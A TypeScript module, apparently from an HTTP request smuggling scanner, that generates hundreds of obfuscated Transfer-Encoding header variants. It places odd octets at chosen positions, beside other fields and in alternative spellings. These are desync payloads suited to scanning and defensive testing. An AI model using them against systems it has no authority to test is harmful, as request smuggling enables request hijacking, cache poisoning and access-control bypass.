/**
 * Fields that one server takes for `Transfer-Encoding: chunked` and another does not: an octet in
 * each of four places, alone and in pairs, and spellings of their own. The same field lines as of the
 * scanner smuggler (T49) come out.
 */

/** Octets that at least one server has been seen to skip or to take for the end of a line. */
const TELLING = [0x01, 0x04, 0x08, 0x09, 0x0a, 0x0b, 0x0c, 0x0d, 0x1f, 0x20, 0x7f, 0xa0, 0xff];

const ALL = [
  ...Array.from({ length: 0x20 }, (_, index) => 0x01 + index),
  ...Array.from({ length: 0x81 }, (_, index) => 0x7f + index),
];

/** Where `^` stands the octet is put. */
const PLACES = [
  '^Transfer-Encoding: chunked',
  'Transfer-Encoding^: chunked',
  'Transfer-Encoding:^chunked',
  'Transfer-Encoding: chunked^',
  '^Transfer-Encoding^: chunked',
  '^Transfer-Encoding:^chunked',
  '^Transfer-Encoding: chunked^',
  'Transfer-Encoding^:^chunked',
  'Transfer-Encoding^: chunked^',
  'Transfer-Encoding:^chunked^',
];

/** Another field that ends, or does not, with the octet. */
const BESIDE = [
  'X: X^Transfer-Encoding: chunked',
  'Transfer-Encoding: chunked^X: X',
  'X: X\r^Transfer-Encoding: chunked',
  'X: X^\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r^X: X',
  'Transfer-Encoding: chunked^\nX: X',
];

const SPELLINGS = [
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding\t:\tchunked',
  'Transfer Encoding: chunked',
  'Transfer_Encoding: chunked',
  'Transfer Encoding:chunked',
  'Transfer-Encoding:  chunked',
  'Transfer-Encoding: chunked, cow',
  'Transfer-Encoding: cow, chunked',
  'Content-Encoding: chunked',
  'Transfer-Encoding:\n chunked',
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  'Transfer-Encoding: chunk',
  'TrAnSFer-EnCODinG: cHuNkeD',
  'TRANSFER-ENCODING: CHUNKED',
  'Transfer-Encoding: cow\r\nTransfer-Encoding: chunked',
  'Transfer\r-Encoding: chunked',
  'Transfer-Encoding: cow chunked bar',
  'Transfer-Encoding: ch\x96nked',
  'Transf\x82r-Encoding: chunked',
  'TE: chunked',
  'Transfer-Encoding: chunked',
  'Transfer-Encoding:chunked',
  'Transfer-Encoding: chunked\0',
];

/** About 230 field lines, one character for each octet; with `all` octets about 1700. */
export function oddCodings({ all }: { readonly all: boolean }): readonly string[] {
  const lines = [
    ...(all ? ALL : TELLING).flatMap((octet) => withOctet(PLACES, octet)),
    ...TELLING.flatMap((octet) => withOctet(BESIDE, octet)),
    ...SPELLINGS,
  ];
  return [...new Set(lines)];
}

function withOctet(lines: readonly string[], octet: number): readonly string[] {
  return lines.map((line) => line.replaceAll('^', String.fromCodePoint(octet)));
}
